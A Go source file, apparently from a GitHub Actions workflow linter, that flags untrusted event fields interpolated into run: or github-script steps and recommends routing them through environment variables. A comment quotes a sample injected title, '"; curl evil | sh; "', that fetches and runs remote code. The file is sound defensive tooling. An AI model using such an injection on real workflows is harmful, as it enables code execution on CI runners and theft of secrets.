package workflow

import (
	"strings"
)

// untrusted are the values whoever opens an issue or a pull request,
// comments, or names a branch controls, from actionlint's list of
// untrusted inputs, plus the inputs of a dispatch (whoever may start the
// workflow chooses them). "*" matches any one property or index.
var untrusted = [][]string{
	{"github", "head_ref"},
	{"inputs", "*"},
	{"github", "event", "inputs", "*"},
	{"github", "event", "issue", "title"},
	{"github", "event", "issue", "body"},
	{"github", "event", "pull_request", "title"},
	{"github", "event", "pull_request", "body"},
	{"github", "event", "pull_request", "head", "ref"},
	{"github", "event", "pull_request", "head", "label"},
	{"github", "event", "pull_request", "head", "repo", "default_branch"},
	{"github", "event", "comment", "body"},
	{"github", "event", "review", "body"},
	{"github", "event", "review_comment", "body"},
	{"github", "event", "discussion", "title"},
	{"github", "event", "discussion", "body"},
	{"github", "event", "pages", "*", "page_name"},
	{"github", "event", "commits", "*", "message"},
	{"github", "event", "commits", "*", "author", "email"},
	{"github", "event", "commits", "*", "author", "name"},
	{"github", "event", "head_commit", "message"},
	{"github", "event", "head_commit", "author", "email"},
	{"github", "event", "head_commit", "author", "name"},
	{"github", "event", "workflow_run", "head_branch"},
	{"github", "event", "workflow_run", "head_commit", "message"},
	{"github", "event", "workflow_run", "head_commit", "author", "email"},
	{"github", "event", "workflow_run", "head_commit", "author", "name"},
	{"github", "event", "workflow_run", "pull_requests", "*", "head", "ref"},
}

// isUntrusted reports whether an access reads an untrusted value or a
// part of one.
func isUntrusted(segs []string) bool {
	for _, u := range untrusted {
		if len(segs) < len(u) {
			continue
		}
		ok := true
		for i, s := range u {
			if s != "*" && segs[i] != "*" && segs[i] != s {
				ok = false
				break
			}
		}
		if ok {
			return true
		}
	}
	return false
}

// ruleInjection warns about untrusted values written into a `run:` script
// with ${{ }}: the expression is replaced before the shell reads the
// script, so a title like `"; curl evil | sh; "` runs (as on GitHub). The
// fix is to pass the value through an environment variable, which the
// shell does not parse as code.
func ruleInjection() *rule {
	return &rule{expr: func(v *validator, e *exprNode) {
		runs, read := "the shell runs whatever it holds", "use \"$%s\""
		switch {
		case e.key == jobKey+"steps.run" || e.key == "runs.steps.run":
		case isGitHubScript(e):
			runs, read = "github-script runs whatever it holds as JavaScript", "read process.env.%s"
		default:
			return
		}
		for i := range e.nodes {
			for _, p := range e.pathsOf(i) {
				if !isUntrusted(p.Segments) {
					continue
				}
				name := envName(p.Segments)
				v.warnf(offsetPos(e.val, p.Offset), "injection",
					"%s: %q is potentially untrusted and %s: pass it through env (env: {%s: ${{ %s }}}) and "+read+" in the script",
					v.stepWhere(e.job, e.step), p.Text, runs, name, p.Text, name)
			}
		}
	}}
}

// envName suggests a variable name for an access: its last property.
func envName(segs []string) string {
	for i := len(segs) - 1; i >= 0; i-- {
		if segs[i] == "*" {
			continue
		}
		name := strings.Map(func(r rune) rune {
			if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
				return r - ('a'-'A')*(r/'a')
			}
			return '_'
		}, segs[i])
		if name[0] >= '0' && name[0] <= '9' {
			name = "_" + name
		}
		return name
	}
	return "VALUE"
}

// isGitHubScript reports whether a value is the script input of an
// actions/github-script step: JavaScript the action evaluates, where a
// ${{ }} is replaced before it runs, as in a run: script.
func isGitHubScript(e *exprNode) bool {
	if e.step == nil || (e.key != jobKey+"steps.with" && e.key != "runs.steps.with") ||
		!strings.HasSuffix(e.where, ".with.script") {
		return false
	}
	uses, _, _ := strings.Cut(e.step.Uses.Raw, "@")
	return strings.EqualFold(uses, "actions/github-script")
}
